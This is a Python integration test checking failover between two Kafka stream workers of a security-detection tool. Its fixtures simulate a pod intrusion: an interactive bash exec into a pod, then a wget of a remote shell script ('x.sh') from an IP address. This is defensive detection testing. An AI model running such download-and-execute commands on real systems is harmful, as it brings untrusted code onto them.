"""Two stream workers share vigil's 6-partition topics; one is killed with SIGKILL and the other carries on from
the changelogs: the half-seen sequence completes, and an open alert keeps its id and its count."""

from __future__ import annotations

import copy
import os
import signal
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import orjson
import pytest
from aiokafka.admin import AIOKafkaAdminClient

from tests.integration.harness import free_port, wait_for
from vigil import kafka
from vigil.sources.audit.fixtures import audit_record
from vigil.sources.source import get_source
from vigil.sources.tetragon.fixtures import tetragon_record
from vigil.streams.app import ALERTS_TABLE, STATE_TABLE

pytestmark = pytest.mark.integration

POD = "web-7f9c"


def exec_record(second: int) -> dict:
    return audit_record("create", "pods", name=POD, subresource="exec", code=101,
                        query="command=bash&container=app&stdin=true&tty=true",
                        time=f"2025-03-04T06:22:{second:02d}.000000Z")


WGET = tetragon_record(binary="/usr/bin/wget", arguments="http://45.33.32.156/x.sh", parent="/bin/bash", pod=POD,
                       time="2025-03-04T06:22:40.000000Z")


class Worker:
    """``vigil stream worker`` as its own process, with its own data directory, metrics port and log."""

    def __init__(self, settings, directory: Path, name: str) -> None:
        self.name, self.metrics_port = name, free_port()
        self.log = directory / f"{name}.log"
        env = os.environ | {
            "VIGIL_KAFKA_TOPIC_PREFIX": settings.kafka.topic_prefix,
            "VIGIL_DATA_DIR": str(directory / name),
            "VIGIL_CLUSTER": settings.cluster,
            "VIGIL_METRICS_PORT": str(self.metrics_port),
        }
        with open(self.log, "wb") as out:
            self.process = subprocess.Popen([sys.executable, "-m", "vigil.cli", "stream", "worker"], env=env,
                                            stdout=out, stderr=subprocess.STDOUT, start_new_session=True)

    def events_processed(self) -> float:
        """``vigil_events_processed_total`` summed over kinds (0 until the metrics endpoint answers)."""
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.metrics_port}/metrics", timeout=5) as response:
                text = response.read().decode()
        except OSError:
            return 0.0
        return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines()
                   if line.startswith("vigil_events_processed_total{"))

    def kill(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait(30)

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(60)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(10)
        sys.stderr.write(f"--- {self.name}.log\n{self.log.read_text(errors='replace')[-3000:]}\n")


@pytest.fixture
async def two_workers(kafka_settings, tmp_path):
    """Two workers started one after the other, returned once the consumer group is stable with both in it."""
    settings = copy.deepcopy(kafka_settings)
    settings.cluster = "workers"
    workers = [Worker(settings, tmp_path, "worker-a")]
    await wait_for(lambda: group_members(settings, 1), timeout=120)
    workers.append(Worker(settings, tmp_path, "worker-b"))
    try:
        await wait_for(lambda: group_members(settings, 2), timeout=120)
        yield settings, workers
    finally:
        for worker in workers:
            worker.stop()


async def group_members(settings, expected: int) -> bool:
    """Whether the workers' consumer group is stable with ``expected`` members."""
    admin = AIOKafkaAdminClient(**kafka.client_options(settings.kafka))
    await admin.start()
    try:
        (response,) = await admin.describe_consumer_groups([f"{settings.kafka.topic_prefix}streams"])
        _, _, state, _, _, members = response.groups[0][:6]
        return state == "Stable" and len(members) == expected
    finally:
        await admin.close()


async def send(settings, source_name: str, *records: dict) -> None:
    source = get_source(source_name)
    producer = kafka.producer(settings)
    await producer.start()
    try:
        for record in records:
            key = source.key(record, settings.cluster).encode()
            await producer.send_and_wait(settings.topic(f"raw.{source_name}"), kafka.encode_batch([record]), key=key)
    finally:
        await producer.stop()


async def changelog(settings, table: str) -> list[tuple[str, dict | None]]:
    """(key, value) of every message of a worker table's changelog so far."""
    consumer = kafka.consumer(settings, f"{settings.kafka.topic_prefix}streams-{table}-changelog", group_id=None)
    await consumer.start()
    try:
        partitions = list(consumer.assignment())
        await consumer.seek_to_beginning(*partitions)
        ends = await consumer.end_offsets(partitions)
        found: list[tuple[str, dict | None]] = []
        while [p for p, end in ends.items() if await consumer.position(p) < end]:
            for messages in (await consumer.getmany(timeout_ms=500)).values():
                found += [(m.key.decode(), m.value and orjson.loads(m.value)) for m in messages]
        return found
    finally:
        await consumer.stop()


def owner(workers: list[Worker], processed: float) -> Worker | None:
    """The worker that has processed ``processed`` events, once one has (the other none)."""
    counts = [worker.events_processed() for worker in workers]
    if sorted(counts) != [0, processed]:
        return None
    return workers[counts.index(processed)]


async def alerts_of(settings, read_documents, detection: str, expected: int) -> list[dict]:
    alerts = await read_documents(settings, "alerts", expected=expected, timeout=5)
    return [a for a in alerts if a["detection"] == detection]


async def test_a_killed_worker_s_half_seen_sequence_completes_on_the_other(two_workers, read_documents):
    settings, workers = two_workers
    pod_key = f"{settings.cluster}/default/{POD}"
    await send(settings, "k8s-audit", exec_record(18))
    first = await wait_for(lambda: owner(workers, 1), timeout=60)
    await wait_for(lambda: has_state(settings, pod_key), timeout=60)

    first.kill()
    killed = time.monotonic()
    await send(settings, "tetragon", WGET)
    (alert,) = await wait_for(lambda: alerts_of(settings, read_documents, "seq.exec_then_tooling", 1), timeout=180)
    sys.stderr.write(f"sequence alert {time.monotonic() - killed:.1f} s after the kill\n")

    assert alert["pod"] == POD and [step["source"] for step in alert["context"]["steps"]] == ["k8s-audit", "tetragon"]
    survivor = next(w for w in workers if w is not first)
    await wait_for(lambda: survivor.events_processed() >= 1, timeout=30)


async def has_state(settings, key: str) -> bool:
    return any(k == key and value for k, value in await changelog(settings, STATE_TABLE))


async def test_a_killed_worker_s_open_alert_keeps_its_id_and_count_on_the_other(two_workers, read_documents):
    settings, workers = two_workers
    await send(settings, "k8s-audit", exec_record(10), exec_record(11), exec_record(12))
    first = await wait_for(lambda: owner(workers, 3), timeout=60)
    (entry,) = await wait_for(lambda: open_alert_entries(settings, "k8s.exec_into_pod", count=3), timeout=60)

    first.kill()
    killed = time.monotonic()
    await send(settings, "k8s-audit", exec_record(13), exec_record(14))

    async def counted_five():
        alerts = await alerts_of(settings, read_documents, "k8s.exec_into_pod", 2)
        return alerts if any(a["count"] == 5 for a in alerts) else None

    alerts = await wait_for(counted_five, timeout=180)
    sys.stderr.write(f"count 5 {time.monotonic() - killed:.1f} s after the kill\n")
    assert {a["id"] for a in alerts} == {entry["alert"]["id"]}, "no second alert was opened"
    assert max(a["count"] for a in alerts) == 5, "hits the killed worker had counted were not counted again"
    assert (await wait_for(lambda: open_alert_entries(settings, "k8s.exec_into_pod", count=5), timeout=60))


async def open_alert_entries(settings, detection: str, count: int) -> list[dict]:
    """The open-alerts changelog's latest entries of ``detection``, once one has reached ``count``."""
    latest: dict[str, dict | None] = {}
    for key, value in await changelog(settings, ALERTS_TABLE):
        latest[key] = value
    entries = [v for k, v in latest.items() if v and k.startswith(f"{detection}\x1f")]
    return entries if any(e["alert"]["count"] == count for e in entries) else []
